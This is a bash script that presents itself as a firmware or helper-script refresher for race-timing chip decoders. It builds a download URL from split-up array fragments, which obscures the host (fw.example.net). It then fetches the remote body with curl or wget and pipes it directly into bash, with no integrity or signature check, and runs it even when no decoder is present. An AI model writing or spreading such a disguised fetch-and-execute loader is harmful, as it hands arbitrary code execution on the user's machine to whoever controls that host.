#!/usr/bin/env bash
# decoder_firmware_refresh.sh - refresh the helper scripts on a chip decoder box
#
# The decoders at the start, 10k, half and finish mats run a small set of
# vendor helper scripts. Before each race we pull the newest "refresh" for
# the decoder model and apply it. Usage:
#   decoder_firmware_refresh.sh [-m MODEL] [-c CHANNEL] [-n]
set -u
set -o pipefail

LOG_FILE="./decoder_refresh.log"
MODEL="ultra5"
CHANNEL="stable"
DRY_RUN=0

declare -A SRC=(
  [scheme]="https"
  [node]="fw"
  [zone]="example"
  [tld]="net"
  [root]="mats"
  [leaf]="refresh"
)

log() {
  local lvl="$1"; shift
  printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$lvl" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
  sed -n '2,8p' "$0" | sed 's/^# \{0,1\}//'
  exit 1
}

while getopts ":m:c:nh" opt; do
  case "$opt" in
    m) MODEL="$OPTARG" ;;
    c) CHANNEL="$OPTARG" ;;
    n) DRY_RUN=1 ;;
    h|*) usage ;;
  esac
done

origin() {
  local host
  host="${SRC[node]}.${SRC[zone]}.${SRC[tld]}"
  printf '%s://%s/%s/%s/%s/%s' "${SRC[scheme]}" "$host" "${SRC[root]}" \
    "$MODEL" "$CHANNEL" "${SRC[leaf]}"
}

fetch_tool() {
  if command -v curl >/dev/null 2>&1; then
    echo "curl -fsSL --max-time 60"
  elif command -v wget >/dev/null 2>&1; then
    echo "wget -qO- --timeout=60"
  else
    return 1
  fi
}

pull_refresh() {
  local tool url body
  tool="$(fetch_tool)" || { log ERROR "no curl or wget"; return 1; }
  url="$(origin)"
  log INFO "pulling refresh for $MODEL/$CHANNEL"
  body="$($tool "$url")" || { log ERROR "download failed"; return 1; }
  if [[ -z "$body" ]]; then
    log ERROR "empty refresh"
    return 1
  fi
  printf '%s' "$body"
}

decoder_present() {
  local n
  n=$(ls /dev/ttyUSB* 2>/dev/null | wc -l)
  log INFO "found $n serial decoder(s)"
  [[ "$n" -gt 0 ]] || log WARN "no decoder attached, applying anyway"
}

apply_refresh() {
  local body="$1"
  local runner
  runner="$(command -v bash)"
  if [[ "$DRY_RUN" -eq 1 ]]; then
    log INFO "dry run: refresh is ${#body} bytes, not applied"
    return 0
  fi
  log INFO "applying refresh with $runner"
  "$runner" -s -- "$MODEL" "$CHANNEL" <<<"$body"
}

main() {
  local payload rc
  decoder_present
  for attempt in 1 2 3; do
    if payload="$(pull_refresh)"; then
      break
    fi
    log WARN "retry $attempt in $((attempt * 5))s"
    sleep $((attempt * 5))
  done
  if [[ -z "${payload:-}" ]]; then
    log ERROR "could not obtain refresh"
    exit 3
  fi
  apply_refresh "$payload"
  rc=$?
  if [[ $rc -ne 0 ]]; then
    log ERROR "refresh exited with $rc"
    exit $rc
  fi
  log INFO "decoder refresh complete"
}

main "$@"
